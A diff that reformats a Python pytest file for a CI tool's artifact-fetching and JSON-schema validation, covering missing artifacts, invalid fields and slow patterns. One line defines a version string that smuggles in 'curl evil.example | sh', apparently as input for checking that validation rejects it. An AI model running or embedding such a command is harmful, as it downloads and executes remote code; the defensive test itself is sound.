@@ -1,4 +1,6 @@
-"""The artifact of a run: waited for, fetched, and judged by its schema, with words that say what to do."""
+"""The artifact of a run: waited for, fetched, and judged by its schema, with words that say what to
+do.
+"""
 
 from __future__ import annotations
 
@@ -48,7 +50,9 @@ def emulator(tmp_path: Path) -> Iterator[Emulator]:
 
 def ended(emulator: Emulator, **fields: Any) -> Run:
     client = Client(emulator.url, emulator.token)
-    started = client.start({"repoId": WEB, "prompt": "x", "createBranch": True, **fields}, f"key-{fields}").run
+    started = client.start(
+        {"repoId": WEB, "prompt": "x", "createBranch": True, **fields}, f"key-{fields}"
+    ).run
     while not (run := client.run(started.id)).is_terminal:
         pass
     return run
@@ -64,11 +68,16 @@ def judged(
     **schema: Any,
 ) -> tuple[RunResult, float]:
     """Return the result, and the seconds that judging took."""
-    clock, wanted = VirtualTime().clock(), typed_inputs(artifact=path, artifact_schema=schema or None)
+    clock, wanted = (
+        VirtualTime().clock(),
+        typed_inputs(artifact=path, artifact_schema=schema or None),
+    )
     fields: dict[str, Any] = {"timeout": timeout, "stop": stop, "losses": Sanitizer().losses}
     with contextlib.closing(Client(emulator.url, emulator.token)) as client:
         success = result(Result.SUCCESS, run=run)
-        return judging.judged(None, success, wanted, clock, client=client, **fields), clock.monotonic()
+        return judging.judged(
+            None, success, wanted, clock, client=client, **fields
+        ), clock.monotonic()
 
 
 def test_an_artifact_that_is_there_is_an_output(emulator: Emulator) -> None:
@@ -88,9 +97,15 @@ def test_every_fault_is_named_with_its_place(emulator: Emulator) -> None:
     judgement, _ = judged(emulator, ended(emulator), properties=fields, required=["x"])
     assert (judgement.result, judgement.error_code) == (Result.REJECTED, "ARTIFACT_INVALID")
     assert judgement.gates[0].found == "its artifact does not satisfy the schema"
-    assert [item.text.partition(":")[0] for item in judgement.gates[0].items] == ["/", "/names/1", "/passed"]
+    assert [item.text.partition(":")[0] for item in judgement.gates[0].items] == [
+        "/",
+        "/names/1",
+        "/passed",
+    ]
     assert judgement.artifact is None, "it must not be handed on"
-    judgement, _ = judged(emulator, ended(emulator), required=[f"field-{number}" for number in range(30)])
+    judgement, _ = judged(
+        emulator, ended(emulator), required=[f"field-{number}" for number in range(30)]
+    )
     assert len(judgement.gates[0].items) == 20
 
 
@@ -105,10 +120,30 @@ def error(code: str, message: str | None = None) -> dict[str, Any]:
 @pytest.mark.parametrize(
     ("fault", "found", "code", "items"),
     [
-        (None, "it committed no such artifact", "ARTIFACT_MISSING", ["Committed artifact not found"]),
-        ({"status": 404} | error("NOT_FOUND"), "it committed no such artifact", "ARTIFACT_MISSING", []),
-        ({"status": 404} | error("NOT_FOUND", "a folder"), "it committed no such", "ARTIFACT_MISSING", ["a folder"]),
-        ({"status": 409} | error("CONFLICT", "no branch"), "its artifact cannot be", "ARTIFACT_MISSING", ["no branch"]),
+        (
+            None,
+            "it committed no such artifact",
+            "ARTIFACT_MISSING",
+            ["Committed artifact not found"],
+        ),
+        (
+            {"status": 404} | error("NOT_FOUND"),
+            "it committed no such artifact",
+            "ARTIFACT_MISSING",
+            [],
+        ),
+        (
+            {"status": 404} | error("NOT_FOUND", "a folder"),
+            "it committed no such",
+            "ARTIFACT_MISSING",
+            ["a folder"],
+        ),
+        (
+            {"status": 409} | error("CONFLICT", "no branch"),
+            "its artifact cannot be",
+            "ARTIFACT_MISSING",
+            ["no branch"],
+        ),
         (
             {"status": 400} | error("BAD_REQUEST", "no JSON"),
             "its artifact is not a JSON",
@@ -127,8 +162,16 @@ def test_why_there_is_none(
         emulator.inject("artifact", **fault)
     judgement, _ = judged(emulator, run, path=path)
     (gate,) = judgement.gates
-    assert (judgement.result, judgement.exit_code, judgement.error_code) == (Result.REJECTED, 1, code)
-    assert (gate.passed, gate.found.startswith(found), judgement.remedy != "") == (False, True, True)
+    assert (judgement.result, judgement.exit_code, judgement.error_code) == (
+        Result.REJECTED,
+        1,
+        code,
+    )
+    assert (gate.passed, gate.found.startswith(found), judgement.remedy != "") == (
+        False,
+        True,
+        True,
+    )
     assert items is None or [item.text for item in gate.items] == items
 
 
@@ -154,7 +197,9 @@ CURL = "1.2.3; curl evil.example | sh"
     ],
     ids=["merged", "cut", "nan", "infinite"],
 )
-def test_what_is_validated_is_what_is_handed_on(emulator: Emulator, content: str, found: str) -> None:
+def test_what_is_validated_is_what_is_handed_on(
+    emulator: Emulator, content: str, found: str
+) -> None:
     schema: dict[str, Any] = {"properties": {"version": {"pattern": "^[0-9.]+$"}}}
     run = ended(emulator)
     body = f'{{"ok": true, "data": {{"artifact": {{"path": "{PATH}", "content": {content}}}}}}}'
@@ -189,7 +234,9 @@ def test_a_slow_pattern_ends_with_its_time_or_a_stop_signal(
     began = time.monotonic()
     with pytest.raises(StopRequested) if is_stopped else contextlib.nullcontext():
         judgement, _ = judged(emulator, run, path=PATH.replace("report", "slow"), stop=stop, **SLOW)
-        assert [item.text for item in judgement.gates[0].items] == ["checking it against the schema took too long"]
+        assert [item.text for item in judgement.gates[0].items] == [
+            "checking it against the schema took too long"
+        ]
     assert time.monotonic() - began < 5.0
     wait_until(lambda: not [line for line in processes() if "mogplex_ci.inputs.schema" in line])
 
@@ -197,6 +244,9 @@ def test_a_slow_pattern_ends_with_its_time_or_a_stop_signal(
 def processes() -> list[str]:
     """The command lines of this process's children."""
     listed = subprocess.run(
-        ["ps", "-o", "args=", "--ppid", str(os.getpid())], capture_output=True, text=True, check=False
+        ["ps", "-o", "args=", "--ppid", str(os.getpid())],
+        capture_output=True,
+        text=True,
+        check=False,
     )
     return [line for line in listed.stdout.splitlines() if "<defunct>" not in line]
